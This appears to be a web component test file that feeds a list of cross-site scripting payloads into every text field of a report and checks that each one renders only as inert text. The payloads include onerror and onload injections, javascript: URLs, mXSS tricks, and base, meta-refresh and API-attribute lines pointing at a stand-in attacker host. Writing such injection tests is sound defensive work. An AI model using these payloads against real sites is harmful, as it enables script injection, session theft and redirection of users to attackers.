import { expect } from "@open-wc/testing";
import type { Report } from "#contract/report.ts";
import { FULL_REPORT } from "../../gallery/full-report.ts";
import { findAllDeep } from "../../kit/mount-coach.ts";
import { openReport } from "../../kit/open-report.ts";
import { createState } from "../../kit/report-samples.ts";

declare global {
  interface Window {
    /** What a payload would do. */
    taken?: (by: number) => void;
  }
}

const RUN = "taken(1)";
/** Texts that do harm where anything reads them as markup, as an address or as style. */
const PAYLOADS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `"><script>${RUN}</script>`,
  `</q></p><svg onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<details open ontoggle=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<style>@import "data:text/css,*{}"</style>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `' onfocus=${RUN} autofocus x='`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `javascript:${RUN}`,
  `<maka-voice-coach api="https://evil.example"></maka-voice-coach>`,
  `<object data="javascript:${RUN}"></object>`,
  `<video><source onerror=${RUN}></video>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<input onfocus=${RUN} autofocus>`,
];

/** The names of code, which choose what is drawn: another one is another report, not a hostile one. */
const CODES =
  /^(?:itemId|id|speaker|state|by|source|evidence|status|createdAt|sessionId|language|turn|criterion)$/;

function poison(value: unknown, payload: string, key = ""): unknown {
  if (typeof value === "string") return CODES.test(key) ? value : payload;
  if (Array.isArray(value)) return value.map((item) => poison(item, payload, key));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, item]) => [name, poison(item, payload, name)]),
  );
}

describe("MakaReport", () => {
  it("markup in every text of a report stays text", async () => {
    const ran: number[] = [];
    window.taken = (by) => void ran.push(by);
    const { report: shape, turns } = createState({ report: FULL_REPORT });
    for (const [number, payload] of PAYLOADS.entries()) {
      const state = createState({
        phase: "report-ready",
        report: poison(shape, payload) as Report,
        turns: turns.map((turn) => ({ ...turn, text: payload })),
      });
      const report = await openReport(state);
      const foreign = findAllDeep(report, "*").filter(
        (element) =>
          /^(?:script|img|iframe|object|video|base|meta|math|template|maka-voice-coach)$/.test(
            element.localName,
          ) ||
          [...element.attributes].some(({ name, value }) => {
            return name.startsWith("on") || /^\s*javascript:/i.test(value);
          }),
      );
      expect(foreign, payload).to.deep.equal([]);
      expect(report.renderRoot.textContent, `${number}`).to.contain(payload.slice(0, 12));
      report.remove();
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(ran).to.deep.equal([]);
    delete window.taken;
  });
});
